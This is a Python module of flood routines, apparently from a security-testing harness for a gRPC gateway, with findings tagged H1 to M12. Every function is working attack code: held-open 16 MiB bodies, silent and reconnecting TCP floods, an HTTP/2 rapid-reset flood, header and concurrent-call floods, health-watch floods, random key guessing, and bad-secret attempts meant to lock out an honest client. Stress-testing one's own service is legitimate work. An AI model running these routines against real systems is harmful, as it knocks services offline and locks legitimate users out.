"""Floods that need no key, or no valid one."""

from __future__ import annotations

import asyncio
import contextlib
import secrets
import socket
from collections import Counter

import grpc
import grpc.aio

from attack.http2 import PREFACE, RESET, call, connected, frame
from attack.target import HONEST, Target
from attack.wire import OPEN_SESSION, attempt, channel, deadline, raw_unary

MIB = 2**20


async def bodies(target: Target, seconds: float) -> Counter[str]:
    """Request bodies of 16 MiB less one byte without a key, on as many streams as are taken, never finished (H1)."""
    outcome: Counter[str] = Counter()

    async def one_connection() -> None:
        async with connected(target) as connection:

            async def one(stream: int) -> None:
                connection.open(call(stream, OPEN_SESSION, target.address), stream)
                connection.begin_message(stream, 16 * MIB - 16)
                outcome["MiB"] += await connection.send(stream, 16 * MIB - 17) >> 20
                outcome["held" if connection.is_open(stream) else "refused"] += 1

            async with asyncio.TaskGroup() as group:
                for stream in range(1, 2 * 30, 2):
                    group.create_task(one(stream))
            # What is held is held until the flood is over.
            await asyncio.Event().wait()

    async with deadline(seconds), asyncio.TaskGroup() as group:
        for _ in range(4):
            group.create_task(one_connection())
    return outcome


async def whole_bodies(target: Target, seconds: float) -> Counter[str]:
    """Whole messages of 15 MiB without a key (H1)."""
    outcome: Counter[str] = Counter()
    message = b"\x0a" + b"\xff\xff\xff\x06" + bytes(14 * MIB)
    async with deadline(seconds), channel(target, name="bodies") as opened, asyncio.TaskGroup() as group:
        for _ in range(60):
            group.create_task(attempt(outcome, raw_unary(opened, OPEN_SESSION)(message, timeout=seconds)))
    return outcome


async def silent(target: Target, seconds: float) -> Counter[str]:
    """1,200 TCP connections that never send a byte, from two processes (H3)."""
    outcome: Counter[str] = Counter()
    with contextlib.ExitStack() as stack:
        for _ in range(600):
            try:
                one = stack.enter_context(socket.socket(socket.AF_INET6 if ":" in target.host else socket.AF_INET))
                one.settimeout(0.5)
                one.connect((target.host if target.host != "localhost" else "127.0.0.1", target.port))
                outcome["connected"] += 1
            except OSError:
                outcome["refused"] += 1
        async with deadline(seconds):
            await asyncio.Event().wait()
    return outcome


async def again(target: Target, seconds: float) -> Counter[str]:
    """1,500 connections from two processes: nothing or half a greeting, and again as soon as they are closed (H3)."""
    outcome: Counter[str] = Counter()
    host = target.host if target.host != "localhost" else "127.0.0.1"
    greetings = (b"", PREFACE[:10], b"\x16\x03\x01\x02\x00\x01")

    async def one(greeting: bytes) -> None:
        while True:
            try:
                reader, writer = await asyncio.open_connection(host, target.port)
            except OSError:
                outcome["refused"] += 1
                await asyncio.sleep(0.01)
                continue
            outcome["connected"] += 1
            try:
                writer.write(greeting)
                await reader.read()
                outcome["closed"] += 1
            except OSError:
                outcome["reset"] += 1
            finally:
                writer.transport.abort()

    async with deadline(seconds), asyncio.TaskGroup() as group:
        for number in range(750):
            group.create_task(one(greetings[number % len(greetings)]))
    return outcome


async def resets(target: Target, seconds: float) -> Counter[str]:
    """Calls that are begun and reset at once, without a key, as fast as four connections can (rapid reset)."""
    outcome: Counter[str] = Counter()

    async def one_connection() -> None:
        while True:
            try:
                async with connected(target) as connection:
                    for stream in range(1, 200_000, 2):
                        outcome["calls"] += 1
                        begin = call(stream, OPEN_SESSION, target.address)
                        connection.open(begin + frame(RESET, 0, stream, (8).to_bytes(4, "big")), stream)
                        if connection.is_over:
                            break
                        if stream % 64 == 1:
                            await connection.drain()
                outcome["connections ended"] += 1
            except OSError:
                outcome["connections lost"] += 1

    async with deadline(seconds), asyncio.TaskGroup() as group:
        for _ in range(4):
            group.create_task(one_connection())
    return outcome


async def lockout(target: Target, seconds: float) -> Counter[str]:
    """Bad secrets for the honest client's key id from its own address (H4)."""
    return await _bad_keys(target, seconds, lambda: f"mxgw_{HONEST}_{secrets.token_urlsafe(32)[:43]}")


async def guessing(target: Target, seconds: float) -> Counter[str]:
    """Keys with random ids, as fast as one program can (M10)."""
    return await _bad_keys(target, seconds, lambda: f"mxgw_{secrets.token_hex(6)}_{secrets.token_urlsafe(32)[:43]}")


async def _bad_keys(target: Target, seconds: float, make: object) -> Counter[str]:
    outcome: Counter[str] = Counter()
    assert callable(make)
    async with deadline(seconds), channel(target, name="keys") as opened, asyncio.TaskGroup() as group:

        async def worker() -> None:
            open_session = raw_unary(opened, OPEN_SESSION)
            for _ in range(2000):
                header = (("authorization", f"Bearer {make()}"),)
                await attempt(outcome, open_session(b"", timeout=seconds, metadata=header))

        for _ in range(16):
            group.create_task(worker())
    return outcome


async def waiting(target: Target, seconds: float) -> Counter[str]:
    """10,000 calls at once on ten connections, without a key (M1)."""
    outcome: Counter[str] = Counter()
    async with contextlib.AsyncExitStack() as stack:
        channels = [await stack.enter_async_context(channel(target, name=f"waiting{number}")) for number in range(10)]
        async with deadline(seconds), asyncio.TaskGroup() as group:
            for opened in channels * 1000:
                group.create_task(attempt(outcome, raw_unary(opened, OPEN_SESSION)(b"", timeout=seconds)))
    return outcome


async def headers(target: Target, seconds: float) -> Counter[str]:
    """Calls with 180 headers, 11 KB each, without a key (M11)."""
    outcome: Counter[str] = Counter()
    metadata = tuple((f"x-flood-{number}", "x" * 48) for number in range(180))
    async with deadline(seconds), asyncio.TaskGroup() as group:

        async def worker(number: int) -> None:
            async with channel(target, name=f"headers{number}") as opened:
                open_session = raw_unary(opened, OPEN_SESSION)
                for _ in range(5000):
                    await attempt(outcome, open_session(b"", timeout=seconds, metadata=metadata))

        for number in range(32):
            group.create_task(worker(number))
    return outcome


async def watches(target: Target, seconds: float) -> Counter[str]:
    """Watches of the health service, without a key (M12)."""
    outcome: Counter[str] = Counter()

    async def watch(opened: grpc.aio.Channel) -> None:
        stream = opened.unary_stream("/grpc.health.v1.Health/Watch")(b"")
        try:
            while await stream.read() is not grpc.aio.EOF:
                outcome["served"] += 1
        except grpc.aio.AioRpcError as error:
            outcome[error.code().name] += 1

    async with contextlib.AsyncExitStack() as stack:
        channels = [await stack.enter_async_context(channel(target, name=f"watches{number}")) for number in range(8)]
        async with deadline(seconds), asyncio.TaskGroup() as group:
            for opened in channels * 800:
                group.create_task(watch(opened))
    return outcome
